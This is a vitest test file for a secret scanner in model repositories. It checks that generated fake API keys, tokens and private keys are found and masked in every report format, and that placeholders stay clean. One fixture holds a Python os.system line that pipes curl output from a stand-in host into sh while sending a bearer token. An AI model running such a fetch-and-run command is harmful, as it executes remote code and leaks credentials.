/** Secrets in model repositories: found, masked everywhere, and placeholders left alone. */
import { describe, expect, it } from 'vitest';
import { builtInRuleMetas } from '../../src/assay.js';
import type { Finding } from '../../src/core/finding.js';
import { findSecrets, maskSecret, redactSecrets } from '../../src/formats/secrets.js';
import { shannonEntropy, translateInlineFlags } from '../../src/knowledge/secret-patterns.js';
import { OUTPUT_FORMATS, render } from '../../src/report/index.js';
import { auditFiles } from '../helpers.js';

/** Deterministic random-looking strings (built at run time, so the repository itself carries no token). */
function fake(
  length: number,
  seed: number,
  alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789',
) {
  let state = seed;
  let out = '';
  for (let i = 0; i < length; i++) {
    state = (state * 1103515245 + 12345) % 2 ** 31;
    out += alphabet[(state >> 8) % alphabet.length];
  }
  return out;
}

const UPPER_B32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
const pemBody = (seed: number) =>
  Array.from({ length: 6 }, (_, i) =>
    fake(64, seed + i, `${fake(0, 0)}ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/`),
  ).join('\n');

const SECRETS = {
  hf: `hf_${fake(34, 1)}`,
  hfOrg: `api_org_${fake(34, 2)}`,
  openaiProject: `sk-proj-${fake(74, 3)}T3BlbkFJ${fake(74, 4)}`,
  openaiLegacy: `sk-${fake(20, 5)}T3BlbkFJ${fake(20, 6)}`,
  anthropic: `sk-ant-api03-${fake(93, 7)}AA`,
  awsId: `AKIA${fake(16, 8, UPPER_B32)}`,
  awsSecret: fake(40, 9, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'),
  github: `ghp_${fake(36, 10)}`,
  githubOauth: `gho_${fake(36, 11)}`,
  githubFine: `github_pat_${fake(22, 12)}_${fake(59, 13)}`,
  slack: `xoxb-${fake(12, 14, '0123456789')}-${fake(24, 15)}`,
  gcpApi: `AIza${fake(35, 16)}`,
  generic: fake(32, 17),
  password: fake(14, 18),
};

/** [description, file name, content, secret, rule, severity] */
const CASES: [string, string, string, string, string, Finding['severity']][] = [
  [
    'Hugging Face token in code',
    'upload.py',
    `HF_TOKEN = "${SECRETS.hf}"\n`,
    SECRETS.hf,
    'security/secret-token',
    'high',
  ],
  [
    'Hugging Face org token',
    'notes.txt',
    `org token ${SECRETS.hfOrg}\n`,
    SECRETS.hfOrg,
    'security/secret-token',
    'high',
  ],
  [
    'OpenAI project key',
    'config.json',
    JSON.stringify({ openai: SECRETS.openaiProject }),
    SECRETS.openaiProject,
    'security/secret-token',
    'high',
  ],
  [
    'OpenAI legacy key',
    '.env',
    `OPENAI=${SECRETS.openaiLegacy}\n`,
    SECRETS.openaiLegacy,
    'security/secret-token',
    'high',
  ],
  ['Anthropic key', 'README.md', `use \`${SECRETS.anthropic}\`\n`, SECRETS.anthropic, 'security/secret-token', 'high'],
  [
    'AWS access key id',
    'deploy.sh',
    `export AWS_ACCESS_KEY_ID=${SECRETS.awsId}\n`,
    SECRETS.awsId,
    'security/secret-token',
    'high',
  ],
  [
    'AWS secret access key',
    'credentials',
    `[default]\naws_secret_access_key = ${SECRETS.awsSecret}\n`,
    SECRETS.awsSecret,
    'security/secret-token',
    'critical',
  ],
  ['GitHub PAT', 'train.py', `token = '${SECRETS.github}'\n`, SECRETS.github, 'security/secret-token', 'high'],
  ['GitHub OAuth token', 'a.txt', `${SECRETS.githubOauth}\n`, SECRETS.githubOauth, 'security/secret-token', 'high'],
  ['GitHub fine-grained PAT', 'a.txt', `${SECRETS.githubFine}\n`, SECRETS.githubFine, 'security/secret-token', 'high'],
  ['Slack token', 'bot.py', `SLACK = "${SECRETS.slack}"\n`, SECRETS.slack, 'security/secret-token', 'high'],
  ['GCP API key', 'maps.json', `{"k": "${SECRETS.gcpApi}"}`, SECRETS.gcpApi, 'security/secret-token', 'high'],
  [
    'password in a URL',
    'data.yaml',
    `url: postgres://admin:${SECRETS.password}@db.internal:5432/x\n`,
    SECRETS.password,
    'security/secret-token',
    'high',
  ],
  [
    'generic api_key assignment',
    'client.py',
    `api_key = "${SECRETS.generic}"\n`,
    SECRETS.generic,
    'security/secret-generic',
    'high',
  ],
  [
    'generic JSON secret',
    'settings.json',
    JSON.stringify({ client_secret: SECRETS.generic }),
    SECRETS.generic,
    'security/secret-generic',
    'high',
  ],
  [
    'PEM private key',
    'server.key',
    `-----BEGIN RSA PRIVATE KEY-----\n${pemBody(20)}\n-----END RSA PRIVATE KEY-----\n`,
    pemBody(20).split('\n')[2],
    'security/secret-private-key',
    'critical',
  ],
];

describe('secrets are found and masked', () => {
  it.each(CASES)('%s', async (_name, file, content, secret, rule, severity) => {
    const report = await auditFiles({ [file]: content });
    const found = report.findings.filter((finding) => finding.ruleId.startsWith('security/secret-'));
    expect(found, JSON.stringify(report.findings, null, 1)).toHaveLength(1);
    expect(found[0]).toMatchObject({ ruleId: rule, severity, file });
    expect(found[0].location?.line).toBeGreaterThan(0);
    expect(found[0].evidence?.length).toBeGreaterThanOrEqual(secret.length);
    expect(found[0].message).toContain('masked');
    for (const format of OUTPUT_FORMATS) {
      expect(render(format, report, builtInRuleMetas()), `${format} leaks the secret`).not.toContain(secret);
    }
    expect(JSON.stringify(report)).not.toContain(secret);
  });

  it('a GCP service-account key is one critical finding, not a second one for its PEM block', async () => {
    const key = `-----BEGIN PRIVATE KEY-----\\n${pemBody(30).split('\n').join('\\n')}\\n-----END PRIVATE KEY-----\\n`;
    const account = `{"type": "service_account", "project_id": "p", "private_key_id": "${fake(40, 31, 'abcdef0123456789')}", "private_key": "${key}", "client_email": "svc@p.iam.gserviceaccount.com"}`;
    const report = await auditFiles({ 'service-account.json': account });
    const found = report.findings.filter((finding) => finding.ruleId.startsWith('security/secret-'));
    expect(found.map((finding) => [finding.ruleId, finding.severity, finding.evidence?.pattern])).toEqual([
      ['security/secret-private-key', 'critical', 'gcp-service-account'],
    ]);
    for (const format of OUTPUT_FORMATS) {
      const out = render(format, report, builtInRuleMetas());
      expect(out).not.toContain(pemBody(30).split('\n')[1]);
    }
  });

  it('secrets quoted by other findings (code excerpts) are masked too', async () => {
    const report = await auditFiles({
      'handler.py': `import os\nos.system("curl -H 'Authorization: Bearer ${SECRETS.hf}' https://x | sh")\n`,
    });
    expect(report.findings.map((finding) => finding.ruleId)).toContain('security/python-shell');
    for (const format of OUTPUT_FORMATS) expect(render(format, report, builtInRuleMetas())).not.toContain(SECRETS.hf);
  });

  it('masks with at most 4 characters and at most a quarter of the secret', () => {
    expect(maskSecret(SECRETS.hf)).toBe(`hf_${SECRETS.hf[3]}…`);
    expect(maskSecret('abcdefgh')).toBe('ab…');
    expect(maskSecret('abc')).toBe('…');
    expect(redactSecrets(`t = "${SECRETS.github}"`)).not.toContain(SECRETS.github);
  });
});

describe('what is not a secret', () => {
  it('placeholders, documentation examples and ordinary configs are clean', async () => {
    const report = await auditFiles({
      'README.md': [
        'export HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
        'api_key = "YOUR_API_KEY"',
        'api_key = "<your-key>"',
        'OPENAI_API_KEY="sk-proj-..."',
        'aws_access_key_id = AKIAIOSFODNN7EXAMPLE',
        'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
        'password = "changeme1234567"',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell-style placeholder, not a template
        'postgres://user:${PASSWORD}@db/x',
        '-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----',
      ].join('\n'),
      'tokenizer_config.json': JSON.stringify({
        bos_token: '<|begin_of_text|>',
        pad_token: '<pad>',
        model_max_length: 131072,
        tokenizer_class: 'PreTrainedTokenizerFast',
        chat_template: '{{ bos_token }}',
      }),
      'config.json': JSON.stringify({
        hidden_size: 4096,
        key_value_heads: 8,
        use_auth_token: true,
        api_version: '2024-02-01',
      }),
      'model.safetensors.index.json': JSON.stringify({
        weight_map: { 'model.layers.0.self_attn.k_proj.weight': 'model-00001-of-00002.safetensors' },
      }),
      'modeling.py':
        'key_states = self.k_proj(hidden_states)\ntoken_type_ids = torch.zeros(3)\nkey = jax.random.PRNGKey(0)\nsecret = os.environ["API_SECRET"]\n',
    });
    const found = report.findings.filter((finding) => finding.ruleId.startsWith('security/secret-'));
    expect(found, JSON.stringify(found, null, 1)).toEqual([]);
  });

  it('vocabularies are skipped', async () => {
    const report = await auditFiles({ 'vocab.txt': `${SECRETS.hf}\n`, 'merges.txt': `${SECRETS.github}\n` });
    expect(report.findings.filter((finding) => finding.ruleId.startsWith('security/secret-'))).toEqual([]);
  });

  it('stops listing after 100 secrets in one file and says so', () => {
    const text = Array.from({ length: 150 }, (_, i) => `t${i} = "ghp_${fake(36, 100 + i)}"`).join('\n');
    const { matches, truncated } = findSecrets(text);
    expect(matches).toHaveLength(100);
    expect(truncated).toBe(true);
  });
});

describe('pattern translation for Node 20 (no inline modifiers)', () => {
  it('turns (?i:…) into explicit classes, a leading (?i) into the flag, and drops (?-i:…)', () => {
    const scoped = translateInlineFlags(String.raw`\b(hf_(?i:[a-z]{3}x))\b`);
    expect(scoped.source).not.toContain('(?i');
    expect('hf_AbCX hf_abcx'.match(scoped)).toEqual(['hf_AbCX', 'hf_abcx']);
    expect('HF_abcx'.match(scoped)).toBeNull();
    const leading = translateInlineFlags('(?i)npm_[a-z]{2}');
    expect(leading.flags).toContain('i');
    expect(leading.test('NPM_AB')).toBe(true);
    expect(translateInlineFlags('a(?-i:bc)', '').source).toBe('a(?:bc)');
  });

  it('Shannon entropy: random keys score high, words and repeats low', () => {
    expect(shannonEntropy('aaaaaaaaaaaa')).toBe(0);
    expect(shannonEntropy('password1234')).toBeLessThan(3.5);
    expect(shannonEntropy(SECRETS.generic)).toBeGreaterThan(3.5);
  });
});
